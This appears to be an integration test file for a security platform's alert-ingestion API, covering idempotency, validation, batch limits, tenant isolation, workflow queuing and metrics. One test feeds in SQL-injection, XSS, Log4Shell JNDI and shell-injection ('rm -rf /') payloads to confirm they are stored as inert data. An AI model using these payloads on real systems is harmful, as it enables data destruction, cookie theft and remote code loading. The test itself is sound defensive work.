// POST /alerts (lib/api/endpoints/alerts.ts → lib/ingest/alerts.ts) on a real
// Postgres under RLS, the handler called as the gateway will call it: its
// schemas parse the input, then it runs in a withTenant transaction.
//   - the same batch twice: the second answers "duplicate" with the first
//     ids and writes nothing;
//   - partial success: each invalid item is rejected with its reason, the
//     valid ones are stored;
//   - 1,000 items is one call; 1,001 is refused whole;
//   - a body naming a tenant is refused; items naming another tenant's
//     assets are rejected; a context the caller holds no role in writes nothing;
//   - SQL and script payloads are stored as data and come back as sent;
//   - API-ingested alerts are queued for workflow evaluation like any arrival.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { ApiProblem } from "@/lib/api/endpoint";
import { getAlertEndpoint, ingestAlertsEndpoint, listAlertsEndpoint } from "@/lib/api/endpoints";
import { insertFixtures, type Fixtures } from "./helpers/fixtures";
import { call, refused } from "./helpers/api-endpoint-call";
import { createTestDatabase, withClient, type TestDatabase } from "./helpers/test-database";

let db: TestDatabase;
let fx: Fixtures;
before(async () => {
  db = await createTestDatabase();
  fx = await insertFixtures(db.url);
});
after(() => db.drop());

const count = (sql: string, params: unknown[] = []) =>
  withClient(db.url, async (c) => (await c.query<{ n: number }>(`select count(*)::int as n from (${sql}) x`, params)).rows[0].n);
const alertsOf = (slug: keyof Fixtures["tenants"]) => count("select 1 from public.alerts where tenant_id = $1", [fx.tenants[slug]]);

const item = (n: number | string, extra: Record<string, unknown> = {}) => ({
  external_id: `evt-${n}`,
  source: "crowdstrike",
  title: `Suspicious process ${n}`,
  severity: "high",
  ...extra,
});

describe("idempotency", () => {
  test("the same batch twice: duplicates with the first ids, no new rows", async () => {
    const batch = [item("idem-1"), item("idem-2", { source: "sentinel" }), item("idem-3", { hostname: "ws-7", source_ip: "10.0.0.7" })];
    const before = await alertsOf("acme");
    const first = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, { body: { alerts: batch } });
    assert.equal(first.status, 200);
    assert.deepEqual(first.body.summary, { created: 3, duplicates: 0, rejected: 0 });
    assert.equal(await alertsOf("acme"), before + 3);

    const second = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, { body: { alerts: batch } });
    assert.deepEqual(second.body.summary, { created: 0, duplicates: 3, rejected: 0 });
    assert.deepEqual(
      second.body.results.map((r: { id: string }) => r.id),
      first.body.results.map((r: { id: string }) => r.id),
      "each duplicate names the alert stored the first time",
    );
    assert.equal(await alertsOf("acme"), before + 3, "nothing new written");
  });

  test("the same external id from another source is another alert; a repeat inside one batch is a duplicate of the first", async () => {
    const r = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, {
      body: { alerts: [item("shared", { source: "edr-a" }), item("shared", { source: "edr-b" }), item("shared", { source: "edr-a", title: "again" })] },
    });
    assert.deepEqual(r.body.summary, { created: 2, duplicates: 1, rejected: 0 });
    assert.equal(r.body.results[2].status, "duplicate");
    assert.equal(r.body.results[2].id, r.body.results[0].id);
  });

  test("the same (source, external id) in two tenants: two alerts, each in its own tenant", async () => {
    const a = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, { body: { alerts: [item("cross-tenant")] } });
    const g = await call(fx, "globexAdmin", "globex", ingestAlertsEndpoint, { body: { alerts: [item("cross-tenant")] } });
    assert.equal(a.body.results[0].status, "created");
    assert.equal(g.body.results[0].status, "created", "globex's alert is not a duplicate of acme's");
    assert.notEqual(a.body.results[0].id, g.body.results[0].id);
  });
});

describe("partial success and per-item reasons", () => {
  test("a time Postgres cannot hold (year 0000, 30 February) rejects its item, not the batch (a 500 stalled the collector on it)", async () => {
    const r = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, {
      body: {
        alerts: [
          item("year-ok"),
          item("year-0", { detected_at: "0000-01-01T00:00:00Z" }),
          item("feb-30", { detected_at: "2024-02-30T10:00:00Z" }),
          // RFC 3339 allows offsets to ±23:59; Postgres only to ±15:59 (an error that lost the batch).
          item("zone-20", { detected_at: "2026-12-01T10:00:00+20:00" }),
          item("zone-15", { detected_at: "2026-12-01T10:00:00-15:30" }),
        ],
      },
    });
    assert.equal(r.status, 200);
    assert.deepEqual(r.body.summary, { created: 2, duplicates: 0, rejected: 3 });
    assert.deepEqual(r.body.results.map((x: { status: string }) => x.status), ["created", "rejected", "rejected", "rejected", "created"]);
    assert.match(r.body.results[3].reason, /zone offset within ±15:59/);
    // The list's time filters take the same rule: a clear 422, not a 500.
    const since = await refused(fx, "acmeAnalyst", "acme", listAlertsEndpoint, { query: { since: "2026-12-01T10:00:00+23:00" } });
    assert.equal(since.status, 422);
  });

  test("valid items are stored; each invalid one is rejected with its reason", async () => {
    const before = await alertsOf("acme");
    const future = new Date(Date.now() + 3_600_000).toISOString();
    const r = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, {
      body: {
        alerts: [
          item("ok-1"),
          { external_id: "no-title", source: "edr", severity: "low" },
          item("bad-sev", { severity: "apocalyptic" }),
          item("tenant-field", { tenant_id: fx.tenants.globex }),
          item("future", { detected_at: future }),
          item("bad-ip", { source_ip: "999.1.1.1" }),
          item("nul", { title: "a\u0000b" }),
          item("ok-2", { detected_at: "2026-11-30T08:00:00+02:00", asset_id: fx.assets.acme[0] }),
          "not an object",
          item("too-long", { title: "x".repeat(301) }),
        ],
      },
    });
    assert.equal(r.status, 200);
    const byIndex = r.body.results;
    assert.deepEqual(
      byIndex.map((x: { status: string }) => x.status),
      ["created", "rejected", "rejected", "rejected", "rejected", "rejected", "rejected", "created", "rejected", "rejected"],
    );
    assert.match(byIndex[1].reason, /title/);
    assert.match(byIndex[2].reason, /severity/);
    assert.match(byIndex[3].reason, /unknown field "tenant_id"/);
    assert.match(byIndex[4].reason, /future/);
    assert.match(byIndex[5].reason, /source_ip/);
    assert.match(byIndex[6].reason, /control characters/);
    assert.match(byIndex[9].reason, /title/);
    assert.deepEqual(r.body.summary, { created: 2, duplicates: 0, rejected: 8 });
    assert.equal(await alertsOf("acme"), before + 2);
    const stored = await withClient(db.url, (c) =>
      c.query(`select asset_id, detected_at from public.alerts where tenant_id = $1 and external_id = 'evt-ok-2'`, [fx.tenants.acme]),
    );
    assert.equal(stored.rows[0].asset_id, fx.assets.acme[0]);
    assert.equal(stored.rows[0].detected_at.toISOString(), "2026-11-30T06:00:00.000Z");
  });
});

describe("limits", () => {
  test("1,000 alerts in one call are stored; 1,001 are refused whole and nothing is written", async () => {
    const thousand = Array.from({ length: 1000 }, (_, i) => item(`k-${i}`, { source: "bulk" }));
    const r = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, { body: { alerts: thousand } });
    assert.deepEqual(r.body.summary, { created: 1000, duplicates: 0, rejected: 0 });
    assert.equal(r.body.results.length, 1000);
    assert.equal(ingestAlertsEndpoint.quotaCost?.({ params: undefined, query: undefined, body: { alerts: thousand.map((value) => ({ ok: true, value })) } } as never), 1000);

    const before = await alertsOf("acme");
    const p = await refused(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, {
      body: { alerts: Array.from({ length: 1001 }, (_, i) => item(`over-${i}`, { source: "bulk" })) },
    });
    assert.equal(p.status, 422);
    assert.equal(await alertsOf("acme"), before);
  });

  test("an empty batch, a missing body, and a body naming a tenant are refused", async () => {
    for (const body of [{ alerts: [] }, undefined, { alerts: [item("t")], tenant_id: fx.tenants.globex }, { alerts: [item("t")], tenant: "globex" }]) {
      const p = await refused(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, { body });
      assert.equal(p.status, 422, JSON.stringify(body)?.slice(0, 80));
    }
  });
});

describe("tenant isolation (RLS)", () => {
  test("items naming another tenant's asset are rejected as unknown; nothing is written to that tenant", async () => {
    const globexBefore = await alertsOf("globex");
    const r = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, {
      body: { alerts: [item("foreign-asset", { asset_id: fx.assets.globex[0] }), item("foreign-asset-2", { asset_id: fx.assets["other-co"][1] })] },
    });
    assert.deepEqual(r.body.results.map((x: { status: string }) => x.status), ["rejected", "rejected"]);
    assert.match(r.body.results[0].reason, /no asset of this tenant/);
    assert.equal(await alertsOf("globex"), globexBefore);
  });

  test("a context naming a tenant the caller holds no role in writes nothing there (403) and reads nothing there", async () => {
    const before = await alertsOf("globex");
    const p = await refused(fx, "acmeAnalyst", "globex", ingestAlertsEndpoint, { body: { alerts: [item("smuggled")] } });
    assert.equal(p.status, 403);
    assert.equal(await alertsOf("globex"), before);
    const list = await call(fx, "acmeAnalyst", "globex", listAlertsEndpoint, {});
    assert.deepEqual(list.body.data, [], "RLS shows none of globex's alerts");
    const one = await refused(fx, "acmeAnalyst", "acme", getAlertEndpoint, { params: { id: fx.alerts.globex[0] } });
    assert.equal(one.status, 404);
  });

  test("a viewer (no write role) cannot ingest: 403, nothing written", async () => {
    const before = await alertsOf("acme");
    const p = await refused(fx, "acmeViewer", "acme", ingestAlertsEndpoint, { body: { alerts: [item("viewer")] } });
    assert.equal(p.status, 403);
    assert.equal(await alertsOf("acme"), before);
  });

  test("a suspended tenant takes no alerts; a key above it reads them, as that tenant's staff do in the console", async () => {
    await call(fx, "acmeAdmin", "acme-us", ingestAlertsEndpoint, { body: { alerts: [item("before-suspension")] } });
    await withClient(db.url, (c) => c.query(`update public.tenants set status = 'suspended' where id = $1`, [fx.tenants["acme-us"]]));
    try {
      const p = await refused(fx, "acmeAdmin", "acme-us", ingestAlertsEndpoint, { body: { alerts: [item("frozen")] } });
      assert.equal(p.status, 403);
      // docs/tenant-lifecycle.md: a suspended tenant's own people see nothing; the staff above it read it.
      const list = await call(fx, "acmeAdmin", "acme-us", listAlertsEndpoint, {});
      assert.equal(list.status, 200);
      assert.ok((list.body as { data: { external_id: string | null }[] }).data.some((a) => a.external_id?.includes("before-suspension")));
    } finally {
      await withClient(db.url, (c) => c.query(`update public.tenants set status = 'active' where id = $1`, [fx.tenants["acme-us"]]));
    }
  });
});

describe("SQL and script payloads", () => {
  test("are stored as data and read back exactly as sent", async () => {
    const evil = {
      external_id: "1' or '1'='1",
      source: "x'; drop table public.alerts; --",
      title: "<script>alert(document.cookie)</script>",
      severity: "critical",
      description: "'); delete from public.alerts where ('1'='1\n<img src=x onerror=alert(1)>",
      rule_name: "${jndi:ldap://evil/a}",
      hostname: "host`rm -rf /`",
    };
    const r = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, { body: { alerts: [evil, { ...evil, source: "sqli", external_id: "x" }] } });
    // The source field is a name: a drop-table payload there is refused by its pattern, the rest stored.
    assert.equal(r.body.results[0].status, "rejected");
    assert.equal(r.body.results[1].status, "created");
    const got = await call(fx, "acmeAnalyst", "acme", getAlertEndpoint, { params: { id: r.body.results[1].id } });
    assert.equal(got.body.title, evil.title);
    assert.equal(got.body.description, evil.description);
    assert.equal(got.body.rule_name, evil.rule_name);
    assert.equal(got.body.hostname, evil.hostname);
    assert.equal(got.body.external_id, "x");
    assert.ok((await alertsOf("acme")) > 0, "the table is still there");
  });
});

describe("workflow rules", () => {
  test("an API-ingested alert is queued for evaluation like any arrival; a re-sent one is not queued again", async () => {
    await withClient(db.url, (c) =>
      c.query(`insert into public.workflow_rules (tenant_id, name, definition) values ($1, 'route-api', '{"when": {"all": []}}')`, [fx.tenants.globex]),
    );
    const r = await call(fx, "globexAdmin", "globex", ingestAlertsEndpoint, { body: { alerts: [item("wf-1"), item("wf-2", { detected_at: "2020-01-01T00:00:00Z" })] } });
    const [fresh, old] = r.body.results.map((x: { id: string }) => x.id);
    const keys = async () =>
      withClient(db.url, async (c) =>
        (await c.query<{ key: string; n: number }>(`select key, count(*)::int as n from graphile_worker.jobs where key = any ($1::text[]) group by key`, [[`workflows:evaluate:${fresh}`, `workflows:evaluate:${old}`]])).rows,
      );
    assert.deepEqual(await keys(), [{ key: `workflows:evaluate:${fresh}`, n: 1 }], "the arrival is queued; an alert detected years ago is history, not an arrival");
    await call(fx, "globexAdmin", "globex", ingestAlertsEndpoint, { body: { alerts: [item("wf-1")] } });
    assert.deepEqual(await keys(), [{ key: `workflows:evaluate:${fresh}`, n: 1 }]);
  });
});

test("problems are ApiProblem instances with a 4xx status", async () => {
  const p = await refused(fx, "acmeAnalyst", "acme", getAlertEndpoint, { params: { id: randomUUID() } });
  assert.ok(p instanceof ApiProblem);
  assert.equal(p.status, 404);
});

describe("metrics", () => {
  const created = async () => {
    const { portalMetrics } = await import("@/lib/metrics/registry");
    const m = await portalMetrics().ingestAlerts.get();
    return m.values.find((v) => v.labels.result === "created")?.value ?? 0;
  };

  test("portal_ingest_alerts_total counts created alerts once the batch commits, not a batch that rolls back", async () => {
    const before = await created();
    const { asKeyOf, runEndpoint, contextFor } = await import("./helpers/api-endpoint-call");
    await assert.rejects(
      asKeyOf(fx, "acmeAnalyst", "acme", async (tx, key) => {
        const r = await runEndpoint(ingestAlertsEndpoint, contextFor(tx, fx, "acme", key), { body: { alerts: [item("metric-rollback-1"), item("metric-rollback-2")] } });
        assert.equal(r.body.summary.created, 2);
        throw new Error("the request fails after the handler (a lost connection before commit)");
      }),
      /lost connection/,
    );
    assert.equal(await created(), before, "a rolled-back batch created nothing");
    const r = await call(fx, "acmeAnalyst", "acme", ingestAlertsEndpoint, { body: { alerts: [item("metric-commit-1"), item("metric-commit-2")] } });
    assert.equal(r.body.summary.created, 2);
    assert.equal(await created(), before + 2);
  });
});
